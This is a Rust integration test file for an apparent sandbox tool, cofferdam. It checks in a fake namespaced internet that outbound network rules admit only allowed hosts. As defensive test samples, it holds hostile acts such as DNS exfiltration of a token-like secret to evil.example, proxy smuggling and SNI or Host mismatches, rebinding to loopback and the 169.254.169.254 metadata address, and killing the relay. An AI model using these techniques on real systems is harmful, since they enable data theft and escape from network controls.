//! Hosts by name: honest clients that know no proxy reach what is allowed, and hostile acts, each of
//! which works without a cell, reach nothing: in a network of the cell's own, and on the floor, where the
//! supervisor makes the connections. The internet is a network namespace with a fake name
//! server and fake hosts that note who came.

use crate::support::{cofferdam, namespaces_work, skip};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use tempfile::TempDir;

/// Hosts of the fake internet are addresses of its loopback.
const SETUP: &str = r#"
set -e
ip link set lo up
for address in 203.0.113.5 203.0.113.6 203.0.113.7 10.0.0.1 169.254.169.254; do
    ip addr add $address/32 dev lo
done
ip -6 addr add 2001:db8::5/128 dev lo nodad 2>/dev/null || true
echo "nameserver 127.0.0.1" > $0/resolv.conf
echo "127.0.0.1 localhost" > $0/hosts
mount --bind $0/resolv.conf /etc/resolv.conf
mount --bind $0/hosts /etc/hosts
mkfifo $0/ready
python3 "$1" $0 > $0/ready &
server=$!
read answer < $0/ready
shift
set +e
"$@"
code=$?
kill $server
exit $code
"#;

/// The two ways in which names are in force, as flags.
const APART: &[&str] = &["--require", "namespace-net"];

fn floor() -> Vec<&'static str> {
    let mut flags = vec!["--off", "namespaces", "--require", "supervision"];
    if nix::unistd::geteuid().is_root() {
        // Nothing maps the owner of the test's own files there.
        flags.extend(["--user", "root"]);
    }
    flags
}

fn both() -> [Vec<&'static str>; 2] {
    [APART.to_vec(), floor()]
}

/// What a run in the internet left.
struct Visit {
    output: Output,
    witnesses: String,
}

impl Visit {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.output.stdout).into_owned()
    }

    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.output.stderr).into_owned()
    }
}

struct Internet {
    directory: TempDir,
}

fn fake(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fake")
        .join(name)
}

impl Internet {
    /// `None` where there are no namespaces or no tools for it.
    fn new() -> Option<Self> {
        if !namespaces_work() {
            return None;
        }
        for tool in ["python3", "openssl", "ip", "unshare"] {
            if !found(tool) {
                skip("egress", &format!("no {tool}"));
                return None;
            }
        }
        let directory = TempDir::with_prefix("cofferdam-net-").unwrap();
        let made = Command::new("openssl")
            .args("req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=api.example".split(' '))
            .args([
                "-addext",
                "subjectAltName=DNS:api.example,DNS:*.wild.example",
            ])
            .args(["-keyout", "key.pem", "-out", "cert.pem"])
            .current_dir(directory.path())
            .output()
            .unwrap();
        assert!(made.status.success(), "{made:?}");
        Some(Self { directory })
    }

    fn cert(&self) -> String {
        let path = self.directory.path().join("cert.pem");
        path.to_str().unwrap().to_owned()
    }

    /// Runs a command there, without any variable that names a proxy.
    fn visit(&self, command: &[&str]) -> Visit {
        for name in ["ready", "witnesses"] {
            std::fs::remove_file(self.directory.path().join(name)).unwrap_or(());
        }
        // Root's cells become somebody else, which takes users that a namespace of one has not.
        let namespaces = match nix::unistd::geteuid().is_root() {
            true => "-nm",
            false => "-Urnm",
        };
        let output = Command::new("unshare")
            .args([namespaces, "sh", "-c", SETUP])
            .arg(self.directory.path())
            .arg(fake("internet.py"))
            .args(command)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap())
            .env("HOME", self.directory.path())
            .env("XDG_STATE_HOME", self.directory.path())
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let witnesses = self.directory.path().join("witnesses");
        let witnesses = std::fs::read_to_string(witnesses).unwrap_or_default();
        Visit { output, witnesses }
    }

    /// Runs a command in a cell there.
    fn cell(&self, flags: &[&str], command: &[&str]) -> Visit {
        let program = cofferdam();
        let cert = self.cert();
        let mut words = vec![program.to_str().unwrap(), "exec", "-v", "--read", &cert];
        words.extend(flags);
        words.push("--");
        words.extend(command);
        self.visit(&words)
    }
}

fn found(tool: &str) -> bool {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path).any(|dir| dir.join(tool).is_file())
}

const ALLOWED: [&str; 20] = [
    "--allow-host",
    "api.example:8080",
    "--allow-host",
    "api.example:443",
    "--allow-host",
    "api.example:5432",
    "--allow-host",
    "*.wild.example:8080",
    "--allow-host",
    "loop.example:8080",
    "--allow-host",
    "ten.example:8080",
    "--allow-host",
    "meta.example:8080",
    "--allow-host",
    "flip.example:8080",
    "--allow-host",
    "mixed.example:8080",
    "--allow-host",
    "203.0.113.7:8080",
];
/// What there is in a network of the cell's own only: the server listens, and there are datagrams.
const APART_ONLY: [&str; 3] = [
    "honest_question_by_datagram",
    "honest_own_loopback",
    "honest_own_datagrams",
];

/// Each act with whether it worked and how many milliseconds it took.
fn acts(visit: &Visit) -> BTreeMap<String, (bool, u64)> {
    let text = visit.stdout();
    let acts = text.lines().map(|line| {
        let words: Vec<&str> = line.split(' ').collect();
        (
            words[0].to_owned(),
            (words[1] == "worked", words[2].parse().unwrap()),
        )
    });
    let acts: BTreeMap<_, _> = acts.collect();
    assert!(acts.len() > 20, "{text}\n{}", visit.stderr());
    acts
}

#[test]
fn what_is_allowed_is_reached_and_nothing_else() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let script = fake("egress_acts.py");
    let script = script.to_str().unwrap();
    let cert = internet.cert();
    let open = internet.visit(&["python3", script, &cert]);
    let open_acts = acts(&open);
    let failed: Vec<&String> = open_acts
        .iter()
        .filter(|(_, (worked, _))| !worked)
        .map(|(name, _)| name)
        .collect();
    assert!(
        failed.is_empty(),
        "without a cell: {failed:?}\n{}",
        open.stderr()
    );

    for tier in both() {
        judge(&internet, &tier, &open_acts);
    }
}

fn judge(internet: &Internet, tier: &[&str], open_acts: &BTreeMap<String, (bool, u64)>) {
    let script = fake("egress_acts.py");
    let script = script.to_str().unwrap();
    let cert = internet.cert();
    let on_the_floor = tier != APART;
    let flags = [tier, &ALLOWED].concat();
    let cell = internet.cell(&flags, &["python3", script, &cert]);
    let stderr = cell.stderr();
    let cell_acts = acts(&cell);
    assert_eq!(cell_acts.len(), open_acts.len());
    for (name, (worked, took)) in &cell_acts {
        let there = !on_the_floor || !APART_ONLY.contains(&name.as_str());
        let honest = name.starts_with("honest") && there;
        assert_eq!(*worked, honest, "{name}\n{stderr}");
        // None waits for what never comes, but for the pause that the act itself makes.
        assert!(*took < 2500, "{name} took {took} ms\n{stderr}");
    }
    // What the hosts themselves saw.
    for line in cell.witnesses.lines() {
        let honest = match line.split(' ').collect::<Vec<_>>().as_slice() {
            ["dns", name, _] => {
                let rest = ["vm", "localhost", "cofferdam"];
                name.ends_with(".wild.example")
                    || ALLOWED
                        .iter()
                        .any(|rule| rule.split(':').next() == Some(name))
                    || rest.contains(name)
            }
            ["http", address, "8080", "GET", "/", host] => {
                let host = host.split(':').next().unwrap();
                match *address {
                    "203.0.113.5" => {
                        ["api.example", "mixed.example", "flip.example"].contains(&host)
                    }
                    "203.0.113.6" => host == "a.wild.example",
                    "203.0.113.7" => host == "whatever",
                    _ => false,
                }
            }
            ["http", "203.0.113.5", "443", "GET", "/", "api.example"] => true,
            ["tls", "['api.example']"] => true,
            ["banner", ..] => line.contains("EHLO me"),
            // A connection that the relay made before the client had said for whom, and then ended.
            ["broken", "443" | "8080", ..] => true,
            _ => false,
        };
        assert!(honest, "{line}\n{stderr}");
    }
    for told in [
        "denied: look up evil.example: allow it with --allow-host evil.example",
        "denied: connect to api.example:443 for other.example (TLS)",
        "denied: connect to api.example:443: it began with TLS without a server name",
        "denied: connect to api.example:8080 for other.example (HTTP)",
        "denied: connect to api.example:8080: it began with CONNECT",
        "denied: connect to api.example:8081: allow it with --allow-host api.example:8081",
        "denied: connect to 203.0.113.6:8080: allow it with --allow-host 203.0.113.6:8080",
        "denied: connect to [2001:db8::5]:8080: allow it with --allow-host [2001:db8::5]:8080",
        "denied: a datagram to 203.0.113.5:9999: only TCP can be allowed",
        "denied: connect to loop.example:8080: it is at 127.0.0.1, a loopback address",
        "denied: connect to ten.example:8080: it is at 10.0.0.1, a private address",
        "denied: connect to meta.example:8080: it is at 169.254.169.254, a link-local address",
    ] {
        // There are no datagrams that could be seen.
        let unseen = on_the_floor && told.contains("datagram");
        assert_eq!(stderr.contains(told), !unseen, "{told}\n{stderr}");
    }
    assert!(stderr.contains("namespace-net"), "{stderr}");
    assert!(!stderr.contains("checks ports"), "{stderr}");
}

/// Where `cargo xtask setup` puts pinned packages.
fn fixtures() -> PathBuf {
    std::env::var_os("COFFERDAM_FIXTURES").map_or_else(
        || PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/target/fixtures")),
        PathBuf::from,
    )
}

#[test]
fn clients_that_know_no_proxy_reach_the_name() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let directory = internet.directory.path().to_str().unwrap().to_owned();
    let java = format!("{directory}/Get.java");
    std::fs::write(
        &java,
        "import java.net.http.*; import java.net.URI; class Get { public static void main(String[] a) throws Exception { \
         System.out.println(HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create(a[0])).build(), \
         HttpResponse.BodyHandlers.ofString()).body()); } }",
    )
    .unwrap();
    let fetch = format!("{directory}/fetch");
    let source = fake("fetch.rs");
    let built = Command::new("rustc")
        .args(["-C", "target-feature=+crt-static", "-o", &fetch])
        .arg(&source)
        .output();
    let node = "fetch(process.argv[1]).then(r => r.text()).then(console.log, e => { console.error(e.cause || e); process.exit(1) })";
    let python = "import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1], timeout=3).read().decode())";
    let good = "http://api.example:8080/";
    let bad = "http://other.example:8080/";
    let mut clients: Vec<(&str, Vec<&str>)> = vec![
        ("python3", vec!["python3", "-c", python]),
        ("node", vec!["node", "-e", node]),
        ("curl", vec!["curl", "-fsS", "-m", "5"]),
        ("java", vec!["java", &java]),
    ];
    if built.is_ok_and(|output| output.status.success()) {
        clients.push(("sh", vec![&fetch]));
    } else {
        skip("egress.static", "rustc made no static binary");
    }
    let home = fixtures();
    let pinned = home.join("pypi/bin/python");
    let pinned = pinned.to_str().unwrap();
    let httpx = "import sys, httpx; print(httpx.get(sys.argv[1], timeout=5).text)";
    if Path::new(pinned).is_file() {
        clients.push(("sh", vec![pinned, "-c", httpx]));
    } else {
        skip("egress.httpx", "no pinned Python packages");
    }
    let home = home.to_str().unwrap();
    let tiers = both();
    let clients = clients
        .iter()
        .flat_map(|client| tiers.iter().map(move |tier| (client, tier)));
    for ((tool, command), tier) in clients {
        if !found(tool) {
            skip(&format!("egress.{tool}"), "not installed");
            continue;
        }
        let mut flags = tier.clone();
        flags.extend(["--allow-host", "api.example:8080", "--read", &directory]);
        if command[0] == pinned {
            flags.extend(["--read", home]);
        }
        let with = |target: &[&str]| -> Vec<String> {
            let words = command.iter().chain(target);
            words.map(|word| (*word).to_owned()).collect()
        };
        let run = |target: &[&str]| {
            let words = with(target);
            let words: Vec<&str> = words.iter().map(String::as_str).collect();
            internet.cell(&flags, &words)
        };
        let is_static = command[0] == fetch;
        let allowed = if is_static {
            run(&["api.example", "8080"])
        } else {
            run(&[good])
        };
        let said = allowed.stdout();
        assert!(
            said.contains("hello from 8080"),
            "{command:?}: {said}\n{}",
            allowed.stderr()
        );
        let refused = if is_static {
            run(&["other.example", "8080"])
        } else {
            run(&[bad])
        };
        assert_ne!(refused.output.status.code(), Some(0), "{command:?}");
        assert!(
            !refused.witnesses.contains("http"),
            "{command:?}: {}",
            refused.witnesses
        );
        assert!(!refused.witnesses.contains("other.example"), "{command:?}");
        // A client of the floor's proxy does not look names up.
        let told = [
            "denied: look up other.example: allow it with --allow-host other.example",
            "denied: connect to other.example:8080: allow it with --allow-host other.example:8080",
        ];
        assert!(
            told.iter().any(|told| refused.stderr().contains(told)),
            "{command:?}: {}",
            refused.stderr()
        );
    }
}

#[test]
fn localhost_is_the_hosts_own_when_it_is_listed() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let get = "import urllib.request; print(urllib.request.urlopen('http://localhost:8080/', timeout=3).read())";
    for tier in both() {
        let flags = [&tier[..], &["--allow-host", "localhost:8080"]].concat();
        let visit = internet.cell(&flags, &["python3", "-c", get]);
        let said = visit.stdout();
        assert!(
            said.contains("hello from 8080"),
            "{said}\n{}",
            visit.stderr()
        );
    }
}

/// What a detector knows, and a name of a host can hold.
const SECRET: &str = "xoxb-210987654321-1234567890123-kq3v9zr5w8yt2m7p4n6bxjhd";

/// Around a server that speaks no protocol, the message process hears of refusals too, and of what
/// passed: on stderr, in the audit log, and in the metrics.
#[test]
fn a_wrapped_server_is_explained_logged_and_counted() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let file = |name: &str| internet.directory.path().join(name);
    std::fs::write(
        file("c.toml"),
        "[cell]\negress = ['API.example.:8080', '*.wild.example:8080']\n\
         [admin]\nlisten = 'unix:admin.sock'\n[audit]\nfile = 'audit.jsonl'\n",
    )
    .unwrap();
    let code = "import socket, sys, urllib.request\n\
        urllib.request.urlopen('http://api.example:8080/', timeout=3).read()\n\
        def connect(*to):\n    \
            try: socket.create_connection(to, timeout=2)\n    \
            except OSError: pass\n\
        for n in range(3): connect('evil.example', 80)\n\
        connect('api.example', 81)\n\
        connect('203.0.113.6', 8081)\n\
        connect('2001:db8::5', 8080)\n\
        connect('SECRET.evil.example', 80)\n\
        sys.stdin.read()";
    let code = &code.replace("SECRET", SECRET);
    let ask = "import socket, sys\n\
        s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])\n\
        s.sendall(b'GET /metrics HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')\n\
        print(b''.join(iter(lambda: s.recv(65536), b'')).decode())";
    std::fs::write(file("ask.py"), ask).unwrap();
    // Until all is counted, or for 30 s; the pipe stays open meanwhile.
    let wait = "cd \"$0\"; { n=0; until { grep -q 'received\",host=\"api.example\"} [1-9]' metrics && \
        grep -q 'reason=\"address\"} 2' metrics; } 2> ask.log || [ $n = 30 ]; do n=$((n + 1)); \
        sleep 1; python3 ask.py admin.sock > metrics 2> ask.log; done; } | \"$@\"";
    let program = cofferdam();
    let directory = internet.directory.path().to_str().unwrap();
    for tier in both() {
        for name in ["audit.jsonl", "metrics"] {
            std::fs::remove_file(file(name)).unwrap_or(());
        }
        let mut words = vec!["sh", "-c", wait, directory, program.to_str().unwrap()];
        words.extend(["run", "--config", "c.toml"]);
        words.extend(tier);
        words.extend(["--", "python3", "-c", code]);
        check_told(&internet, &internet.visit(&words));
    }
}

fn check_told(internet: &Internet, visit: &Visit) {
    let file = |name: &str| internet.directory.path().join(name);
    let told = visit.stderr();
    for line in [
        "denied: look up evil.example: allow it with --allow-host evil.example",
        "denied: connect to api.example:81: allow it with --allow-host api.example:81",
        "denied: connect to 203.0.113.6:8081: allow it with --allow-host 203.0.113.6:8081",
        "denied: connect to [2001:db8::5]:8080: allow it with --allow-host [2001:db8::5]:8080",
    ] {
        assert_eq!(told.matches(line).count(), 1, "{line}\n{told}");
    }
    let read = |name: &str| std::fs::read_to_string(file(name)).unwrap_or_default();
    let lines: Vec<serde_json::Value> = read("audit.jsonl")
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .filter(|line: &serde_json::Value| line["type"] == "network")
        .collect();
    assert_eq!(lines.len(), 5, "{lines:?}\n{told}");
    // A name is of the server's choice.
    for text in [&told, &read("audit.jsonl")] {
        assert!(text.contains(".evil.example"), "{text}");
        assert!(!text.contains(SECRET), "{text}");
    }
    assert_eq!(lines[0]["target"], "evil.example");
    assert_eq!(lines[0]["decision"], "refuse");
    assert_eq!(lines[1]["rule"], "egress.port");
    assert_eq!(
        lines[1]["detail"],
        "denied: connect to api.example:81: allow it with --allow-host api.example:81"
    );
    let metrics = read("metrics");
    for line in [
        "cofferdam_egress_connections_total{host=\"api.example\"} 1",
        "cofferdam_egress_bytes_total{direction=\"sent\",host=\"api.example\"} ",
        "cofferdam_egress_bytes_total{direction=\"received\",host=\"api.example\"} ",
        "cofferdam_egress_refused_total{host=\"api.example\",reason=\"port\"} 1",
        "cofferdam_egress_refused_total{host=\"other\",reason=\"address\"} 2",
        "cofferdam_cell_denials_total{what=\"network\"} ",
    ] {
        assert!(metrics.contains(line), "{line}\n{metrics}\n{told}");
    }
    let number = |prefix: &str| -> u64 {
        let line = metrics.lines().find(|line| line.starts_with(prefix));
        line.unwrap().rsplit(' ').next().unwrap().parse().unwrap()
    };
    // Three look-ups at least; resolvers may ask twice.
    assert!(number("cofferdam_egress_refused_total{host=\"other\",reason=\"name\"}") >= 3);
    let received =
        number("cofferdam_egress_bytes_total{direction=\"received\",host=\"api.example\"}");
    assert!((20..1000).contains(&received), "{received}");
}

#[test]
fn a_range_of_addresses_opens_what_it_holds() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let get = "import socket\n\
        for to in ('203.0.113.5', '10.0.0.1', '203.0.113.7', '169.254.169.254', 'ten.example'):\n    \
            try:\n        \
                s = socket.create_connection((to, 8080), timeout=3)\n        \
                s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(to, s.recv(15))\n    \
            except OSError as error: print(to, 'refused')";
    for tier in both() {
        let mut flags = tier;
        flags.extend(["--allow-host", "203.0.113.4/31:8080"]);
        flags.extend(["--allow-host", "10.0.0.0/8:8080"]);
        check_range(&internet.cell(&flags, &["python3", "-c", get]));
    }
}

fn check_range(visit: &Visit) {
    let said = visit.stdout();
    let told = visit.stderr();
    let worked: Vec<bool> = said.lines().map(|line| line.contains("200 OK")).collect();
    assert_eq!(worked, [true, true, false, false, false], "{said}\n{told}");
    for line in [
        "connect to 203.0.113.7:8080: allow it with --allow-host 203.0.113.7:8080",
        "connect to 169.254.169.254:8080: allow it",
        "look up ten.example: allow it",
    ] {
        assert!(told.contains(line), "{line}\n{told}");
    }
}

/// Each refusal is heard by the operator while the program still wonders: the best of five, because
/// the machine may be busy.
#[test]
fn a_refusal_is_told_within_50_ms() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let code = "import socket, time\n\
        for n in range(5):\n    \
            print(n, time.time_ns(), flush=True)\n    \
            try: socket.getaddrinfo(f'evil{n}.example', 80)\n    \
            except OSError: time.sleep(0.2)";
    // Each line of what the operator sees, with the time at which it came.
    let stamp = "exec 3>&1; { \"$@\" 2>&1 >&3; } | python3 -uc '\
import sys, time\n\
for line in sys.stdin: print(time.time_ns(), line, end=\"\", file=sys.stderr)'";
    let program = cofferdam();
    let program = program.to_str().unwrap();
    for tier in both() {
        let mut words = vec!["sh", "-c", stamp, "sh", program, "exec"];
        words.extend(tier);
        words.extend(["--allow-host", "api.example", "--", "python3", "-c", code]);
        check_delays(&internet.visit(&words));
    }
}

fn check_delays(visit: &Visit) {
    let number = |text: &str| text.parse::<i64>().unwrap();
    let said = visit.stdout();
    let told = visit.stderr();
    let delays: Vec<i64> = said
        .lines()
        .map(|line| {
            let (n, asked) = line.split_once(' ').unwrap();
            let words = format!("look up evil{n}.example:");
            let heard = told.lines().find(|line| line.contains(&words));
            let heard = heard.unwrap_or_else(|| panic!("{words} {told}"));
            (number(heard.split(' ').next().unwrap()) - number(asked)) / 1_000_000
        })
        .collect();
    println!("ms from the question to the operator: {delays:?}");
    assert_eq!(delays.len(), 5);
    assert!(delays.iter().min().is_some_and(|ms| *ms < 50), "{delays:?}");
}

#[test]
fn a_private_range_is_open_to_names_when_it_is_listed() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let config = internet.directory.path().join("c.toml");
    std::fs::write(
        &config,
        "[cell]\negress = ['ten.example:8080', 'loop.example:8080']\negress_private = ['10.0.0.0/8']\n",
    )
    .unwrap();
    let get = "import sys, urllib.request\n\
        for name in ('ten', 'loop'):\n    \
            try: print(urllib.request.urlopen(f'http://{name}.example:8080/', timeout=3).read())\n    \
            except OSError as error: print(repr(error))";
    for tier in both() {
        let flags = [&tier[..], &["--config", config.to_str().unwrap()]].concat();
        check_private(&internet.cell(&flags, &["python3", "-c", get]));
    }
}

fn check_private(visit: &Visit) {
    let said = visit.stdout();
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines.len(), 2, "{said}\n{}", visit.stderr());
    assert!(
        lines[0].contains("hello from 8080"),
        "{said}\n{}",
        visit.stderr()
    );
    assert!(lines[1].contains("reset"), "{said}");
    assert_eq!(
        visit.witnesses.matches("http").count(),
        1,
        "{}",
        visit.witnesses
    );
}

#[test]
fn a_relay_that_is_killed_leaves_no_way_out() {
    let Some(internet) = Internet::new() else {
        return;
    };
    // Outside: finds the relay and kills it, once the server in the cell has begun. Whatever relays others
    // have on this machine do not know that host.
    let mark = format!("killed-{}.example", std::process::id());
    let script = "\"$@\" & p=$!; sleep 1; for s in /proc/[0-9]*; do \
        if tr '\\0' ' ' < $s/cmdline 2>/dev/null | grep -q \"^cofferdam __egress .*$0\"; then kill -9 ${s#/proc/}; fi; done; wait $p";
    let code = "import time, urllib.request\n\
        def get():\n    \
            try: return urllib.request.urlopen('http://api.example:8080/', timeout=5).read()\n    \
            except OSError as error: return repr(error)\n\
        print(get(), flush=True)\ntime.sleep(2)\nprint(get(), flush=True)";
    let program = cofferdam();
    let host = format!("{mark}:8080");
    for tier in both() {
        let mut words = vec!["sh", "-c", script, &mark, program.to_str().unwrap(), "exec"];
        words.extend(tier);
        words.extend(["--allow-host", "api.example:8080", "--allow-host", &host]);
        words.extend(["--", "python3", "-c", code]);
        check_lost_relay(&internet.visit(&words));
    }
}

fn check_lost_relay(visit: &Visit) {
    let said = visit.stdout();
    let lines: Vec<&str> = said.lines().collect();
    assert_eq!(lines.len(), 2, "{said}\n{}", visit.stderr());
    assert!(lines[0].contains("hello from 8080"), "{said}");
    assert!(lines[1].contains("Error"), "{said}");
    let told = "the process that makes connections has ended";
    assert!(visit.stderr().contains(told), "{}", visit.stderr());
    assert_eq!(visit.witnesses.matches("http").count(), 1);
}

/// What a client may ask of the proxy on the floor, and what it may say behind it.
#[test]
fn the_proxy_of_the_floor_knows_no_more_than_the_rules() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let code = "import os, socket, ssl, sys, urllib.parse
at = urllib.parse.urlsplit('http://198.19.255.254:3128')
def ask(*parts):
    with socket.create_connection((at.hostname, at.port), timeout=3) as stream:
        stream.settimeout(3)
        said = []
        for part in parts:
            stream.sendall(part.encode())
            try: said.append(stream.recv(4096).decode())
            except OSError: said.append('reset')
        return ' | '.join(part.split('\\r')[0] + (' hello' if 'hello' in part else '') for part in said)
def hello(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    read, write = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = context.wrap_bio(read, write, server_hostname=name)
    try: client.do_handshake()
    except ssl.SSLWantReadError: pass
    with socket.create_connection((at.hostname, at.port), timeout=3) as stream:
        stream.settimeout(3)
        stream.sendall(b'CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n')
        first = stream.recv(4096).split(b'\\r')[0].decode()
        stream.sendall(write.read())
        try: return first, len(stream.recv(16)) > 0
        except OSError: return first, False
end = '\\r\\nHost: api.example\\r\\n\\r\\n'
get = 'GET / HTTP/1.1' + end
print('tunnel', ask('CONNECT api.example:8080 HTTP/1.1' + end, get))
print('other', ask('CONNECT other.example:443 HTTP/1.1' + end))
print('port', ask('CONNECT api.example:8081 HTTP/1.1' + end))
print('address', ask('CONNECT 203.0.113.6:8080 HTTP/1.1' + end))
print('loopback', ask('CONNECT 127.0.0.1:8080 HTTP/1.1' + end))
print('rebound', ask('CONNECT loop.example:8080 HTTP/1.1' + end, get.replace('api', 'loop')))
print('smuggled', ask('CONNECT api.example:8080 HTTP/1.1' + end, 'CONNECT other.example:8080 HTTP/1.1' + end))
print('host', ask('CONNECT api.example:8080 HTTP/1.1' + end, get.replace('api', 'other')))
print('plain', ask('GET http://api.example:8080/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))
print('plain other', ask('GET http://other.example:8080/ HTTP/1.1' + end))
print('no target', ask(get))
print('two', ask('GET http://api.example:8080/ HTTP/1.1' + end + 'GET http://other.example:8080/ HTTP/1.1' + end))
print('name', *hello('api.example'))
print('other name', *hello('other.example'))
";
    let mut flags = floor();
    for host in ["api.example:8080", "api.example:443", "loop.example:8080"] {
        flags.extend(["--allow-host", host]);
    }
    let visit = internet.cell(&flags, &["python3", "-c", code]);
    let expected = "\
tunnel HTTP/1.1 200 Connection established | HTTP/1.1 200 OK hello
other HTTP/1.1 403 Forbidden
port HTTP/1.1 403 Forbidden
address HTTP/1.1 403 Forbidden
loopback HTTP/1.1 403 Forbidden
rebound HTTP/1.1 200 Connection established | reset
smuggled HTTP/1.1 200 Connection established | reset
host HTTP/1.1 200 Connection established | reset
plain HTTP/1.1 200 OK hello
plain other HTTP/1.1 403 Forbidden
no target HTTP/1.1 400 Bad Request
two HTTP/1.1 200 OK hello
name HTTP/1.1 200 Connection established True
other name HTTP/1.1 200 Connection established False
";
    let told = visit.stderr();
    assert_eq!(visit.stdout(), expected, "{told}");
    for line in [
        "denied: connect to other.example:443: allow it with --allow-host other.example:443",
        "denied: connect to api.example:8081: allow it",
        "denied: connect to 127.0.0.1:8080: allow it",
        "denied: connect to loop.example:8080: it is at 127.0.0.1, a loopback address",
        "denied: connect to api.example:8080: it began with CONNECT",
        "denied: connect to api.example:443 for other.example (TLS)",
        "denied: a request to the proxy: its target is neither",
    ] {
        assert!(told.contains(line), "{line}\n{told}");
    }
    for line in visit.witnesses.lines() {
        let fine = line.starts_with("dns") || line.contains(" 203.0.113.5 ");
        assert!(
            fine || line.starts_with("broken 443") || line.starts_with("tls ['api.example']"),
            "{line}"
        );
    }
}

/// A pod that forbids to borrow descriptors of another process: the supervisor makes the sockets.
#[test]
fn names_are_in_force_where_looking_is_refused() {
    let Some(internet) = Internet::new() else {
        return;
    };
    let code = "import os, socket, threading, urllib.request
def get(): return urllib.request.urlopen('http://api.example:8080/', timeout=3).read()
print(get(), get())
several = [socket.socket() for _ in range(40)]
def talk(one):
    one.connect(('203.0.113.7', 8080))
    one.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
    return b'200 OK' in one.recv(4096)
print(all(talk(one) for one in several))
twin = socket.socket(); other = socket.socket(fileno=os.dup(twin.fileno()))
print(talk(other))
for to in [('203.0.113.6', 8080), ('2001:db8::5', 8080)]:
    try: socket.create_connection(to, timeout=3); print('connected')
    except OSError as error: print(error.errno)
print(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).fileno() > 0, bool(socket.if_nameindex()))
";
    let (program, refusing) = (cofferdam(), fake("refusing.py"));
    let mut words = vec!["python3", refusing.to_str().unwrap()];
    words.extend([
        "pidfd_getfd,process_vm_readv",
        program.to_str().unwrap(),
        "exec",
    ]);
    words.extend(floor());
    words.extend([
        "--allow-host",
        "api.example:8080",
        "--allow-host",
        "203.0.113.7:8080",
    ]);
    words.extend(["--", "python3", "-c", code]);
    let visit = internet.visit(&words);
    let hello = "b'hello from 8080'";
    let expected = format!("{hello} {hello}\nTrue\nTrue\n13\n13\nTrue True\n");
    assert_eq!(visit.stdout(), expected, "{}", visit.stderr());
}
